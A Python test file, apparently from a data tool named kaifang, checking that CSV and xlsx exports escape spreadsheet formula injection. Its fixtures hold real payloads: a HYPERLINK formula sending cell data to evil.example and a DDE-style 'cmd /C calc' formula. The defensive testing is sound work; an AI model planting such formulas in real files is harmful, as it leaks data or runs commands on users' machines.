"""Formula injection: names a spreadsheet would run (=, +, -, @, tab) are written to every CSV
with a leading quote, numbers stay numbers, results.xlsx keeps them as text, and a results
folder read back gives the names as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from hostile_cli import copy_tiny, kaifang
from hypothesis import given
from hypothesis import strategies as st

from kaifang.csvfiles import TRIGGERS, escape_cell, unescape_cell
from kaifang.report.data import from_folder

HOSTILE_NAMES = {
    "U1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "U2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "U3": "\t=1+1",
}
HOSTILE_CODE = "+U3"  # a unit code that is a formula too


def hostile_project(tmp_path: Path) -> Path:
    config = copy_tiny(tmp_path)
    folder = config.parent
    units = folder / "units.csv"
    rows = list(csv.reader(units.read_text(encoding="utf-8").splitlines()))
    for row in rows[1:]:
        row[1] = row[2] = HOSTILE_NAMES[row[0]]
        row[0] = HOSTILE_CODE if row[0] == "U3" else row[0]
    with units.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    data = folder / "data.csv"
    text = data.read_text(encoding="utf-8").replace("U3,", f"{HOSTILE_CODE},")
    # a negative number must stay a number (x4 of U1 in 2020)
    data.write_text(text.replace("U1,2020,x4,0", "U1,2020,x4,-5"), encoding="utf-8")
    return config


def formula_like(cell: str) -> bool:
    try:
        float(cell)
        return False  # a number, even negative, is no formula
    except ValueError:
        return cell.startswith(TRIGGERS)


def csv_cells(folder: Path) -> dict[Path, list[list[str]]]:
    files = sorted(folder.rglob("*.csv"))
    assert files
    return {
        p: list(csv.reader(p.read_text(encoding="utf-8").splitlines(), strict=True)) for p in files
    }


def test_assess_writes_no_formula_into_any_csv(tmp_path: Path) -> None:
    config = hostile_project(tmp_path)
    out = tmp_path / "out"
    result = kaifang("assess", str(config), "-o", str(out), "--lang", "en")
    assert result.returncode == 0, result.text
    cells = csv_cells(out)
    assert {p.name for p in cells} >= {"scores.csv", "units.csv", "imputed.csv"}
    for path, rows in cells.items():
        for row in rows:
            assert not any(formula_like(c) for c in row), (path, row)
    units = cells[out / "units.csv"]
    assert ["'" + HOSTILE_NAMES["U1"]] == units[1][1:2]
    assert units[3][0] == "'" + HOSTILE_CODE
    scores = cells[out / "scores.csv"]
    assert any(row[0] == "'" + HOSTILE_CODE for row in scores[1:])
    # numbers are written as numbers: the negative raw value is not quoted
    raw = cells[out / "stages" / "raw.csv"]
    assert ["U1", "2020", "x4", "-5.0"] in raw
    assert all(
        c == "" or float(c) == float(c) for row in scores[1:] for c in row[4:5]
    )  # score column parses as numbers


def test_results_xlsx_keeps_hostile_names_as_text_not_formulas(tmp_path: Path) -> None:
    config = hostile_project(tmp_path)
    out = tmp_path / "out"
    assert kaifang("assess", str(config), "-o", str(out), "--lang", "en").returncode == 0
    book = openpyxl.load_workbook(out / "results.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert HOSTILE_NAMES["U1"] in texts  # as written, typed as text
    assert HOSTILE_CODE in texts


def test_a_results_folder_read_back_gives_the_names_as_they_were(tmp_path: Path) -> None:
    config = hostile_project(tmp_path)
    out = tmp_path / "out"
    assert kaifang("assess", str(config), "-o", str(out), "--lang", "en").returncode == 0
    data = from_folder(out)
    assert HOSTILE_CODE in set(data.scores["unit"])
    assert not any(str(u).startswith("'") for u in data.scores["unit"])
    rebuilt = kaifang("report", str(out), "--format", "html", "-o", str(tmp_path / "again"))
    assert rebuilt.returncode == 0, rebuilt.text


def test_steering_outputs_are_escaped_too(tmp_path: Path) -> None:
    config = hostile_project(tmp_path)
    out = tmp_path / "scenario"
    result = kaifang(
        "scenario", str(config), "--set", "weight.p1=2x", "-o", str(out), "--lang", "en"
    )
    assert result.returncode == 0, result.text
    for path, rows in csv_cells(out).items():
        for row in rows:
            assert not any(formula_like(c) for c in row), (path, row)


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "1", ".", "a", "e"])))
def test_escaping_round_trips_and_leaves_no_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not formula_like(escaped)


def test_numbers_are_not_escaped() -> None:
    for value in (-5, -5.0, "-5", "-3.5e-7", "+2", 0.0):
        assert escape_cell(value) == value
